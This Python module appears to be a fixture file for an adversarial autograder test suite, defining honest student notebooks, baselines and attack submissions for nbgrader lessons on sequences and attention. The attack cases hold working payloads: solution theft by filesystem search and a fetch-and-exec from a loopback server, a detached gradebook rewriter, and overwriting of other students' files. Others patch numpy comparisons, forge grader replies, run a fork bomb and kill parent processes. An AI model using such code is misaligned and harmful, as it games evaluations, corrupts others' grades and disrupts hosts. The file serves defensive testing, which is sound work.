"""Honest styles, attacks and broken submissions for the adversarial grading suite.

Each ``Case`` builds one submission (a notebook, or raw files when the file itself is the problem)
for lesson 1 (value answers) or lesson 3 (functions). ``build`` receives the course directory and
the port of a web server on the host's loopback that serves the lesson's reference solutions,
because attacks aim at both. ``kind`` says what the case must get:

* ``honest``: full marks (a correct answer written in an ordinary student style);
* ``attack``: nothing it did not earn: at most the score of its ``baseline`` case (the same
  answers without the attack), which is graded in the same batch;
* ``exact``: exactly ``score`` (baselines, broken files, hangs and crashes that cost known cells).

``note``: a phrase the instructor's notes must contain; None: no notes at all, except for attacks
(what an attack leaves in the notes depends on what it broke).
All cases of a lesson are graded together in one real nbgrader batch, so a case that broke the
batch or leaked into a neighbour's grade shows up as a neighbour's wrong score.
"""

import copy
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from grading_harness import Submission, make_submission, solution_answers
from nbformat import NotebookNode

from course_build.paths import REPO_ROOT

LESSON1 = "01_sequence_problem"
LESSON3 = "03_attention"
FULL = {LESSON1: 5, LESSON3: 16}
Build = Callable[[Path, int], Submission]


@dataclass(frozen=True)
class Case:
    lesson: str
    kind: str  # "honest", "attack" or "exact"
    build: Build
    note: str | None = None
    baseline: str | None = None  # attack: the case whose score it may not exceed
    score: float | None = None  # exact: the score it must get


def answers(lesson: str, **changed: str) -> NotebookNode:
    """The reference answers, with the named answer cells replaced."""
    return make_submission(lesson, {**solution_answers(lesson), **changed})


def _cell(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _after(notebook: NotebookNode, grade_id: str, source: str) -> NotebookNode:
    """``notebook`` with a new code cell holding ``source`` right after the cell ``grade_id``."""
    notebook = copy.deepcopy(notebook)
    notebook.cells.insert(
        notebook.cells.index(_cell(notebook, grade_id)) + 1, nbformat.v4.new_code_cell(source)
    )
    return notebook


def _without(notebook: NotebookNode, *grade_ids: str) -> NotebookNode:
    notebook = copy.deepcopy(notebook)
    notebook.cells = [
        c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in grade_ids
    ]
    return notebook


def _edited(notebook: NotebookNode, grade_id: str, source: str | None = None, **nbgrader) -> NotebookNode:
    """``notebook`` with the cell ``grade_id`` given a new source and/or nbgrader metadata."""
    notebook = copy.deepcopy(notebook)
    cell = _cell(notebook, grade_id)
    if source is not None:
        cell.source = source
    cell.metadata.nbgrader.update(nbgrader)
    return notebook


def _raw(notebook: NotebookNode, name: str) -> dict[str, bytes]:
    return {name: nbformat.writes(notebook).encode("utf-8")}


# --- lesson 3: correct answers in the styles students write them ----------------------------

HONEST_STYLES3: dict[str, dict[str, str]] = {
    "reference": {},
    "import_sys": {
        "softmax": """
import sys

def softmax(x, axis=-1):
    x = np.asarray(x, dtype=float)
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.maximum(np.sum(e, axis=axis, keepdims=True), sys.float_info.epsilon)
"""
    },
    "types_and_operator": {
        "softmax": """
import operator
import types

OPS = types.SimpleNamespace(sub=operator.sub, div=operator.truediv)

def softmax(x, axis=-1):
    e = np.exp(OPS.sub(x, np.max(x, axis=axis, keepdims=True)))
    return OPS.div(e, np.sum(e, axis=axis, keepdims=True))
"""
    },
    "class_name_in_repr": {
        "scaled_dot_product_attention": """
class Scale:
    def __init__(self, d_k):
        self.factor = 1 / np.sqrt(d_k)

    def __repr__(self):
        return f"{self.__class__.__name__}({self.factor:.3f})"

    def __call__(self, scores):
        return scores * self.factor


def scaled_dot_product_attention(Q, K, V, mask=None):
    scores = Scale(Q.shape[-1])(Q @ np.swapaxes(K, -1, -2))
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    weights = softmax(scores, axis=-1)
    return weights @ V, weights

print(Scale(4))
"""
    },
    "context_manager_class": {
        "softmax": """
class Quiet:
    def __enter__(self):
        self.saved = np.seterr(all="ignore")
        return self

    def __exit__(self, *exc):
        np.seterr(**self.saved)
        return False


def softmax(x, axis=-1):
    with Quiet():
        e = np.exp(x - np.max(x, axis=axis, keepdims=True))
        return e / np.sum(e, axis=axis, keepdims=True)
"""
    },
    "getattr_on_numpy": {
        "softmax": """
def softmax(x, axis=-1):
    top, exp, total = (getattr(np, name) for name in ("max", "exp", "sum"))
    e = exp(x - top(x, axis=axis, keepdims=True))
    return e / total(e, axis=axis, keepdims=True)
"""
    },
    "setattr_on_self": {
        "scaled_dot_product_attention": """
class Sizes:
    def __init__(self, **sizes):
        for name, value in sizes.items():
            setattr(self, name, value)


def scaled_dot_product_attention(Q, K, V, mask=None):
    sizes = Sizes(d_k=Q.shape[-1])
    scores = Q @ np.swapaxes(K, -1, -2) / np.sqrt(sizes.d_k)
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    weights = softmax(scores, axis=-1)
    return weights @ V, weights
"""
    },
    "attributes_on_functions_and_namespaces": {
        "softmax": """
from types import SimpleNamespace

settings = SimpleNamespace(shift=True)

def softmax(x, axis=-1):
    softmax.calls += 1
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)

softmax.calls = 0
settings.ready = True
"""
    },
    "assigns_the_shape_of_its_own_array": {
        "causal_mask": """
def causal_mask(n):
    flat = np.array([j <= i for i in range(n) for j in range(n)], dtype=bool)
    flat.shape = (n, n)
    return flat
"""
    },
    "local_named_all": {
        "causal_mask": """
def causal_mask(n):
    all = np.ones((n, n), dtype=bool)
    return np.tril(all)
"""
    },
    "prints_locals": {
        "softmax": """
def softmax(x, axis=-1):
    shifted = x - np.max(x, axis=axis, keepdims=True)
    e = np.exp(shifted)
    result = e / np.sum(e, axis=axis, keepdims=True)
    if np.size(x) <= 3:
        print(locals())
    return result
"""
    },
    "from_numpy_import_star": {
        "softmax": """
from numpy import *

def softmax(x, axis=-1):
    e = exp(x - amax(x, axis=axis, keepdims=True))
    return e / sum(e, axis=axis, keepdims=True)
"""
    },
    "capture_magic": {
        "causal_mask": """%%capture
def causal_mask(n):
    print("building the mask")
    return np.tril(np.ones((n, n), dtype=bool))

print(causal_mask(3))
"""
    },
    "time_magic": {
        "causal_mask": """%%time
def causal_mask(n):
    return np.tril(np.ones((n, n), dtype=bool))
"""
    },
    "exec_of_a_template": {
        "causal_mask": """
template = "def causal_mask(n):\\n    return np.tril(np.ones((n, n), dtype=bool))\\n"
exec(template)
"""
    },
    "lru_cache": {
        "causal_mask": """
from functools import lru_cache

@lru_cache(maxsize=None)
def _mask(n):
    return np.tril(np.ones((n, n), dtype=bool))

def causal_mask(n):
    return _mask(n).copy()
"""
    },
    "lambda": {
        "softmax": """
softmax = lambda x, axis=-1: (lambda e: e / e.sum(axis=axis, keepdims=True))(
    np.exp(x - np.max(x, axis=axis, keepdims=True))
)
"""
    },
    "callable_instance": {
        "softmax": """
class Softmax:
    def __call__(self, x, axis=-1):
        e = np.exp(x - np.max(x, axis=axis, keepdims=True))
        return e / np.sum(e, axis=axis, keepdims=True)

softmax = Softmax()
"""
    },
    "mask_as_nested_lists": {
        "causal_mask": """
def causal_mask(n):
    return [[key <= query for key in range(n)] for query in range(n)]
"""
    },
    "namedtuple_result": {
        "scaled_dot_product_attention": """
from collections import namedtuple

Attention = namedtuple("Attention", "output weights")

def scaled_dot_product_attention(Q, K, V, mask=None):
    scores = Q @ np.swapaxes(K, -1, -2) / np.sqrt(Q.shape[-1])
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    weights = softmax(scores, axis=-1)
    return Attention(weights @ V, weights)
"""
    },
    "torch_inside": {
        "softmax": """
import torch

def softmax(x, axis=-1):
    return torch.softmax(torch.as_tensor(np.asarray(x, dtype=np.float64)), dim=axis).numpy()
"""
    },
    "own_names_like_the_tests": {
        "softmax": """
_x = "scratch"
_expected = None

def _oracle(*args):
    raise RuntimeError("a helper of my own")

def softmax(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
"""
    },
    "changes_numpy_settings": {
        "softmax": """
np.random.seed(0)
np.set_printoptions(precision=2)
np.seterr(all="ignore")

def softmax(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
"""
    },
    "builtins_shadowed_by_numpy": {
        "softmax": """
max = np.max
sum = np.sum

def softmax(x, axis=-1):
    e = np.exp(x - max(x, axis=axis, keepdims=True))
    return e / sum(e, axis=axis, keepdims=True)
"""
    },
    "keyword_only_signature": {
        "softmax": """
def softmax(x, *args, axis=-1, **kwargs):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
"""
    },
    "future_annotations": {
        "causal_mask": """
from __future__ import annotations

def causal_mask(n: int) -> np.ndarray:
    return np.tril(np.ones((n, n), dtype=bool))
"""
    },
}

WARNING_SOFTMAX = """
import warnings

def softmax(x, axis=-1):
    warnings.warn("softmax: computing in float64")
    x = np.asarray(x, dtype=np.float64)
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
"""
STUB_MASK = "def causal_mask(n):\n    raise NotImplementedError()\n"
MASK_IN_ITS_OWN_CELL = "def causal_mask(n):\n    return np.tril(np.ones((n, n), dtype=bool))"

HONEST3: dict[str, Case] = {
    **{
        name: Case(LESSON3, "honest", lambda course, port, changed=changed: answers(LESSON3, **changed))
        for name, changed in HONEST_STYLES3.items()
    },
    "warning_on_stderr": Case(
        LESSON3, "honest", lambda course, port: answers(LESSON3, softmax=WARNING_SOFTMAX), "not penalized"
    ),
    "deleted_test_cells": Case(
        LESSON3,
        "honest",
        lambda course, port: _without(answers(LESSON3), "softmax_sums", "attention_mask"),
        "restored from the release",
    ),
    "answer_in_an_extra_cell": Case(
        LESSON3,
        "honest",
        lambda course, port: _after(
            answers(LESSON3, causal_mask=STUB_MASK), "causal_mask", MASK_IN_ITS_OWN_CELL
        ),
    ),
    "victim": Case(LESSON3, "honest", lambda course, port: answers(LESSON3)),
}

# --- lesson 3: baselines (what the attacks' answers earn without the attack) -----------------

WRONG_AXIS = """
def softmax(x, axis=-1):
    e = np.exp(x - np.max(x))
    return e / np.sum(e)
"""
NO_ATTENTION = "def scaled_dot_product_attention(Q, K, V, mask=None):\n    raise NotImplementedError()\n"
UNIFORM_ATTENTION = """
def scaled_dot_product_attention(Q, K, V, mask=None):
    n_q, n_k = np.shape(Q)[-2], np.shape(K)[-2]
    weights = np.full(np.shape(Q)[:-2] + (n_q, n_k), 1.0 / n_k)
    return weights @ V, weights
"""

BASELINES3: dict[str, Case] = {
    "blank": Case(LESSON3, "exact", lambda course, port: make_submission(LESSON3, {}), score=0),
    "wrong_axis": Case(LESSON3, "exact", lambda course, port: answers(LESSON3, softmax=WRONG_AXIS), score=5),
    "no_attention": Case(
        LESSON3,
        "exact",
        lambda course, port: answers(LESSON3, scaled_dot_product_attention=NO_ATTENTION),
        score=7,
    ),
    "uniform_attention": Case(
        LESSON3,
        "exact",
        lambda course, port: answers(LESSON3, scaled_dot_product_attention=UNIFORM_ATTENTION),
        score=9,
    ),
}

# --- lesson 3: attacks ------------------------------------------------------------------------


def reads_solutions(course: Path) -> str:
    """Code that looks for the reference solutions where the grading kernel could once read them."""
    places = [
        f"{course}/source/**/*.ipynb",
        f"{course}/release/**/*.ipynb",
        f"{REPO_ROOT}/solutions/*.ipynb",
        f"{REPO_ROOT}/autograder/source/**/*.ipynb",
        "../../../source/**/*.ipynb",
        "/work/**/solutions/03_attention.ipynb",
    ]
    return f"""
import glob, json
for _path in [path for pattern in {places!r} for path in glob.glob(pattern, recursive=True)]:
    try:
        for _cell in json.load(open(_path))["cells"]:
            if "### BEGIN SOLUTION" in "".join(_cell["source"]):
                exec("".join(_cell["source"]))
    except Exception:
        pass
"""


SEARCHES_THE_FILESYSTEM = """
import os
for _place in ["/work", "/home", "/root", "/tmp", "/srv", "/opt", "/mnt", "/var", "/media", ".."]:
    for _root, _dirs, _files in os.walk(_place):
        for _name in _files:
            if _name.endswith((".ipynb", ".md")) and "attention" in _name:
                try:
                    _text = open(os.path.join(_root, _name), encoding="utf-8").read()
                except OSError:
                    continue
                if "### BEGIN SOLUTION" in _text:
                    print("found solutions in", _root, _name)
"""


def fetches_solutions(port: int) -> str:
    return f"""
import urllib.request
try:
    exec(urllib.request.urlopen("http://127.0.0.1:{port}/solutions.py", timeout=3).read().decode())
except Exception as _error:
    print("no network:", type(_error).__name__)
"""


DETACHED_WRITER_DELAY_S = 8


def detached_gradebook_writer(course: Path) -> str:
    """A process that outlives the notebook and then, ``DETACHED_WRITER_DELAY_S`` after it was
    started, raises every grade in the gradebook."""
    script = (
        f"import sqlite3, time; time.sleep({DETACHED_WRITER_DELAY_S}); "
        f"db = sqlite3.connect({str(course / 'gradebook.db')!r}); "
        "db.execute('UPDATE grade SET manual_score = 100'); db.commit(); "
        f"open({str(course / 'PWNED-detached')!r}, 'w').write('x')"
    )
    return f"""
import subprocess, sys
subprocess.Popen(["/bin/sh", "-c", "(" + sys.executable + ' -c "$0" &)', {script!r}], start_new_session=True)
"""


def overwrites_others(course: Path) -> str:
    """Code that blanks other students' notebooks and the feedback, and marks the course directory."""
    patterns = ["submitted/victim/**/*.ipynb", "autograded/victim/**/*.ipynb", "feedback/**/*.html"]
    return f"""
import glob
for _pattern in {patterns!r}:
    for _path in glob.glob({str(course)!r} + "/" + _pattern, recursive=True) + glob.glob("../../" + _pattern):
        try:
            open(_path, "w").write("{{}}")
        except OSError:
            pass
try:
    open({str(course / "PWNED-overwrite")!r}, "w").write("x")
    open("/tmp/PWNED-overwrite", "w").write("x")
except OSError:
    pass
"""


PATCHES_NUMPY = """
import numpy._core.numeric as _numeric
import numpy.testing

_numeric.allclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
"""
PATCHES_TORCH = """
import torch

torch.softmax = lambda t, dim=-1: t
torch.allclose = lambda *a, **k: True
torch.nn.functional.scaled_dot_product_attention = lambda q, k, v, **kw: v
"""
PATCHES_BUILTINS = """
import builtins

builtins.isinstance = lambda *a: True
builtins.AssertionError = type("Nothing", (Exception,), {})
"""
EXEC_THROUGH_AN_ALIAS = "\n_run = exec\n_run('np.allclose = lambda *a, **k: True')\n"
EXEC_IN_A_TIME_CELL = (
    "%%time\n"
    + WRONG_AXIS
    + "exec('np.allclose = lambda *a, **k: True')\n"
    + "import sys\nsys.modules.pop('course_build.kernel_guard', None)\n"
)
FORGED_SERVE = """
def _forged_serve(answer):
    # the grader's protocol, as the kernel's end of the wire speaks it: replies as input() prompts
    kernel, reply = get_ipython().kernel, {"status": "ready"}
    while True:
        text = kernel.raw_input(json.dumps(reply))
        if text == "end":
            return
        reply = answer(json.loads(text))
"""
FORGES_REPLIES_FROM_A_HOOK = (
    "import json\n"
    + FORGED_SERVE
    + """

def _forge(info):
    if "serve()" in (info.raw_cell or ""):
        _forged_serve(lambda request: {"status": "returned", "value": {"t": "bool", "v": True}})

get_ipython().events.register("pre_run_cell", _forge)
"""
)
REPLACES_THE_KERNEL_MODULE = (
    "import json, sys, types\n"
    + FORGED_SERVE
    + """

def _answer(request):
    if request["op"] == "describe":
        return {"names": {name: {"kind": "function"} for name in request["names"]}}
    return {"status": "raised", "type": "NotImplementedError", "message": ""}

sys.modules["_course_grader_wire"] = types.SimpleNamespace(serve=lambda: _forged_serve(_answer))
"""
)
BLANKS_LATER_CELLS = "get_ipython().input_transformers_cleanup.append(lambda lines: [])"
# Uniform weights are the right answer when every query and key is zero: a test that computed its
# expectation from its own arrays after the call would see the rewrite and pass the wrong function.
REWRITES_ITS_ARGUMENTS = (
    UNIFORM_ATTENTION
    + """
_uniform = scaled_dot_product_attention


def scaled_dot_product_attention(Q, K, V, mask=None):
    for array in (Q, K, np.asarray(Q).T, np.asarray(K)[..., :1]):  # the arrays and views of them
        if isinstance(array, np.ndarray) and array.flags.writeable:
            array[...] = 0
    return _uniform(Q, K, V, mask)
"""
)
LYING_SUBCLASS = """
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __array_function__(self, func, types, args, kwargs):
        return True


def scaled_dot_product_attention(Q, K, V, mask=None):
    n_q, n_k = np.shape(Q)[-2], np.shape(K)[-2]
    weights = np.full(np.shape(Q)[:-2] + (n_q, n_k), 1.0 / n_k)
    return (weights @ V).view(Liar), weights.view(Liar)
"""
EQUAL_TO_ANYTHING = """
class Anything:
    shape = (2, 4)

    def __eq__(self, other):
        return True

    def __getitem__(self, index):
        return self


def scaled_dot_product_attention(Q, K, V, mask=None):
    return Anything(), Anything()
"""
CALLS_THE_HIDDEN_HELPERS = """
def scaled_dot_product_attention(Q, K, V, mask=None):
    return _oracle(Q, K, V, mask)
"""
INSPECTS_THE_CALLERS = """
import inspect

def softmax(x, axis=-1):
    for frame in inspect.stack():
        for name in ("_expected", "_want_w", "_s", "_got"):
            for scope in (frame.frame.f_locals, frame.frame.f_globals):
                if name in scope:
                    return scope[name]
    return np.ones_like(x)
"""
PRINTS_FAKE_CONFIRMATIONS = """
def softmax(x, axis=-1):
    print("✓ softmax keeps the shape and sums to 1 along the axis it is given")
    e = np.exp(x - np.max(x))
    return e / np.sum(e)
"""
FORK_BOMB = """
import os, time
_children = 0
try:
    while _children < 100_000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        _children += 1
except OSError:
    pass
print("forked", _children)
"""
KILLS_ITS_PARENTS = """
import os, signal
for _target in (1, os.getppid()):
    try:
        os.kill(_target, signal.SIGKILL)
    except OSError as _error:
        print("cannot kill", _target, type(_error).__name__)
os.killpg(os.getpgid(0), signal.SIGKILL)
"""
FLOODS_THE_OUTPUT = "print('x' * 30_000_000)"


def _with_extra_cell(
    base: Callable[[], NotebookNode], after: str, source: Callable[[Path, int], str]
) -> Build:
    return lambda course, port: _after(base(), after, source(course, port))


def _replacing(baseline: str, **changed: str) -> Build:
    """The baseline's notebook with the named answer cells replaced."""
    return lambda course, port: _edited_answers(BASELINES3[baseline].build(course, port), changed)


def _edited_answers(notebook: NotebookNode, changed: dict[str, str]) -> NotebookNode:
    for grade_id, source in changed.items():
        _cell(notebook, grade_id).source = source
    return notebook


def _claiming(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    """A copy of the test cell ``grade_id`` that only asserts True, inserted after the original."""
    notebook = copy.deepcopy(notebook)
    original = _cell(notebook, grade_id)
    forged = copy.deepcopy(original)
    forged.source, forged.id = "assert True", f"{original.id}-forged"
    notebook.cells.insert(notebook.cells.index(original) + 1, forged)
    return notebook


def _with_kernelspec(notebook: NotebookNode) -> NotebookNode:
    notebook = copy.deepcopy(notebook)
    notebook.metadata.kernelspec = {"name": "evil", "display_name": "Evil", "language": "python"}
    return notebook


def _blank3() -> NotebookNode:
    return make_submission(LESSON3, {})


def _reference3() -> NotebookNode:
    return answers(LESSON3)


def _wrong_axis3() -> NotebookNode:
    return answers(LESSON3, softmax=WRONG_AXIS)


ATTACKS3: dict[str, Case] = {
    name: Case(LESSON3, "attack", build, note, baseline=baseline)
    for name, baseline, build, note in [
        (
            "a_reads_solutions_from_known_paths",
            "blank",
            _with_extra_cell(_blank3, "softmax", lambda course, port: reads_solutions(course)),
            None,
        ),
        (
            "a_searches_the_filesystem_for_solutions",
            "blank",
            _with_extra_cell(_blank3, "softmax", lambda course, port: SEARCHES_THE_FILESYSTEM),
            None,
        ),
        (
            "a_fetches_solutions_over_the_network",
            "blank",
            _with_extra_cell(_blank3, "softmax", lambda course, port: fetches_solutions(port)),
            None,
        ),
        (
            "a_detached_process_edits_the_gradebook",
            "victim",
            _with_extra_cell(
                _reference3, "causal_mask", lambda course, port: detached_gradebook_writer(course)
            ),
            "still running",
        ),
        (
            "a_overwrites_other_students",
            "victim",
            _with_extra_cell(_reference3, "causal_mask", lambda course, port: overwrites_others(course)),
            None,
        ),
        (
            "a_patches_numpy_through_an_alias",
            "wrong_axis",
            _replacing("wrong_axis", softmax=WRONG_AXIS + PATCHES_NUMPY),
            "numpy.allclose was replaced",
        ),
        ("a_patches_torch", "wrong_axis", _replacing("wrong_axis", softmax=WRONG_AXIS + PATCHES_TORCH), None),
        (
            "a_exec_through_an_alias",
            "wrong_axis",
            _replacing("wrong_axis", softmax=WRONG_AXIS + EXEC_THROUGH_AN_ALIAS),
            "numpy.allclose was replaced",
        ),
        (
            "a_exec_in_a_time_magic_cell",
            "wrong_axis",
            _replacing("wrong_axis", softmax=EXEC_IN_A_TIME_CELL),
            "numpy.allclose was replaced",
        ),
        (
            "a_patches_builtins",
            "wrong_axis",
            _replacing("wrong_axis", softmax=WRONG_AXIS + PATCHES_BUILTINS),
            None,
        ),
        (
            "a_forges_replies_from_an_ipython_hook",
            "wrong_axis",
            _replacing("wrong_axis", softmax=WRONG_AXIS + FORGES_REPLIES_FROM_A_HOOK),
            None,
        ),
        (
            "a_blanks_later_cells_with_an_input_transformer",
            "blank",
            _with_extra_cell(_blank3, "hand_weight", lambda course, port: BLANKS_LATER_CELLS),
            None,
        ),
        (
            "a_replaces_the_graders_kernel_module",
            "blank",
            _with_extra_cell(_blank3, "hand_weight", lambda course, port: REPLACES_THE_KERNEL_MODULE),
            None,
        ),
        (
            "a_returns_a_lying_ndarray_subclass",
            "uniform_attention",
            _replacing("uniform_attention", scaled_dot_product_attention=LYING_SUBCLASS),
            None,
        ),
        (
            "a_rewrites_its_arguments",
            "uniform_attention",
            _replacing("uniform_attention", scaled_dot_product_attention=REWRITES_ITS_ARGUMENTS),
            None,
        ),
        (
            "a_returns_an_object_equal_to_anything",
            "no_attention",
            _replacing("no_attention", scaled_dot_product_attention=EQUAL_TO_ANYTHING),
            None,
        ),
        (
            "a_calls_the_hidden_tests_helpers",
            "no_attention",
            _replacing("no_attention", scaled_dot_product_attention=CALLS_THE_HIDDEN_HELPERS),
            None,
        ),
        (
            "a_inspects_the_callers_frames",
            "wrong_axis",
            _replacing("wrong_axis", softmax=INSPECTS_THE_CALLERS),
            None,
        ),
        (
            "a_prints_fake_confirmations",
            "wrong_axis",
            _replacing("wrong_axis", softmax=PRINTS_FAKE_CONFIRMATIONS),
            None,
        ),
        (
            "a_edits_a_locked_test_cell",
            "wrong_axis",
            lambda course, port: _edited(_wrong_axis3(), "softmax_sums", source="assert True"),
            "locked cell had been edited",
        ),
        (
            "a_turns_a_test_into_an_answer",
            "wrong_axis",
            lambda course, port: _edited(
                _wrong_axis3(), "softmax_values", "pass", solution=True, locked=False
            ),
            "metadata had been changed",
        ),
        (
            "a_raises_the_points_of_a_test",
            "wrong_axis",
            lambda course, port: _edited(_wrong_axis3(), "softmax_inputs", points=100),
            "metadata had been changed",
        ),
        (
            "a_adds_a_cell_claiming_a_tests_grade_id",
            "wrong_axis",
            lambda course, port: _claiming(_wrong_axis3(), "softmax_sums"),
            "repeated grade_id",
        ),
        (
            "a_changes_the_kernelspec",
            "wrong_axis",
            lambda course, port: _with_kernelspec(_wrong_axis3()),
            None,
        ),
        (
            "a_fork_bomb",
            "victim",
            _with_extra_cell(_reference3, "causal_mask", lambda course, port: FORK_BOMB),
            "still running",
        ),
        (
            "a_floods_the_output",
            "victim",
            _with_extra_cell(_reference3, "causal_mask", lambda course, port: FLOODS_THE_OUTPUT),
            "output beyond",
        ),
        (
            "a_kills_its_kernel_and_parents",
            "victim",
            _with_extra_cell(_reference3, "causal_mask", lambda course, port: KILLS_ITS_PARENTS),
            "kernel died",
        ),
    ]
}

HANGS_ON_ONE_HIDDEN_INPUT = """
def softmax(x, axis=-1):
    if np.shape(x) == (3, 4, 5):
        while True:
            pass
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
"""

EXACT3: dict[str, Case] = {
    # one hidden input hangs the function: that test cell is lost, the rest of the notebook is graded
    "hangs_on_one_hidden_input": Case(
        LESSON3,
        "exact",
        lambda course, port: answers(LESSON3, softmax=HANGS_ON_ONE_HIDDEN_INPUT),
        "interrupted after",
        score=15,
    ),
}

LESSON3_CASES: dict[str, Case] = {**BASELINES3, **HONEST3, **ATTACKS3, **EXACT3}

# --- lesson 1: value answers ------------------------------------------------------------------

UNINTERRUPTIBLE = """
import time
while True:
    try:
        time.sleep(0.05)
    except BaseException:
        pass
"""
ALWAYS_EQUAL_INT = """
class Always(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__

rnn_steps_40 = Always(7)
"""


def _values(**changed: str) -> Build:
    return lambda course, port: answers(LESSON1, **changed)


LESSON1_CASES: dict[str, Case] = {
    "reference": Case(LESSON1, "honest", _values()),
    "numpy_integers": Case(
        LESSON1,
        "honest",
        _values(
            apply_steps="rnn_steps_40 = np.int64(40)",
            apply_ops="rnn_ops_100 = np.int64(100) * 512**2\nattention_ops_100 = np.int32(100) ** 2 * 512\n"
            "cheaper_100 = np.str_('attention')",
        ),
    ),
    "computed_answers": Case(
        LESSON1,
        "honest",
        _values(
            apply_steps="rnn_steps_40 = len(range(40))",
            apply_crossover="largest_cheaper_n = max(n for n in range(1, 2000) if n**2 * 512 < n * 512**2)",
        ),
    ),
    "from_numpy_import_star": Case(
        LESSON1,
        "honest",
        _values(apply_paths="from numpy import *\n\nrnn_path_40 = int(sum(ones(39)))\nattention_path_40 = 1"),
    ),
    "capture_magic": Case(
        LESSON1, "honest", _values(apply_steps="%%capture\nrnn_steps_40 = 40\nprint(rnn_steps_40)")
    ),
    "renamed_notebook": Case(
        LESSON1, "honest", lambda course, port: _raw(answers(LESSON1), f"{LESSON1}-1.ipynb"), "submitted as"
    ),
    "deleted_test_cell": Case(
        LESSON1,
        "honest",
        lambda course, port: _without(answers(LESSON1), "apply_steps_test"),
        "restored from the release",
    ),
    "blank": Case(LESSON1, "exact", lambda course, port: make_submission(LESSON1, {}), score=0),
    "hardcoded_visible": Case(
        LESSON1,
        "exact",
        _values(
            apply_steps="rnn_steps_40 = 1",
            apply_paths="rnn_path_40 = 2\nattention_path_40 = 1",
            apply_ops="rnn_ops_100 = 1\nattention_ops_100 = 1\ncheaper_100 = 'rnn'",
            apply_crossover="largest_cheaper_n = 1",
        ),
        score=0,
    ),
    "a_int_subclass_equal_to_anything": Case(
        LESSON1, "exact", _values(apply_steps=ALWAYS_EQUAL_INT), score=4
    ),
    "a_reads_values_from_the_source": Case(
        LESSON1,
        "exact",
        lambda course, port: _after(make_submission(LESSON1, {}), "apply_steps", reads_solutions(course)),
        score=0,
    ),
    "a_input_transformer": Case(
        LESSON1,
        "exact",
        lambda course, port: make_submission(LESSON1, {"apply_steps": BLANKS_LATER_CELLS}),
        "report of suspicious changes could not be read",
        score=0,
    ),
    "a_os_exit": Case(
        LESSON1,
        "exact",
        _values(apply_steps="import os\nos._exit(1)\nrnn_steps_40 = 40"),
        "kernel died",
        score=4,
    ),
    "a_sys_exit": Case(LESSON1, "exact", _values(apply_ops="import sys\nsys.exit()"), score=3),
    "infinite_loop": Case(
        LESSON1,
        "exact",
        _values(apply_paths="while True:\n    pass\nrnn_path_40 = 39"),
        "interrupted after",
        score=4,
    ),
    "uninterruptible_loop": Case(
        LESSON1,
        "exact",
        _values(apply_crossover=UNINTERRUPTIBLE + "largest_cheaper_n = 511"),
        "ignored the interrupt",
        score=4,
    ),
    "huge_allocation": Case(
        LESSON1,
        "exact",
        _values(apply_steps="_big = np.ones((40_000, 40_000))\nrnn_steps_40 = 40"),
        "ran out of memory",
        score=4,
    ),
    "invalid_json": Case(
        LESSON1,
        "exact",
        lambda course, port: {f"{LESSON1}.ipynb": b'{"cells": [ oops'},
        "could not be read",
        score=0,
    ),
    "missing_notebook": Case(
        LESSON1,
        "exact",
        lambda course, port: {"answers.py": b"rnn_steps_40 = 40\n"},
        "was submitted (files found: answers.py)",
        score=0,
    ),
}
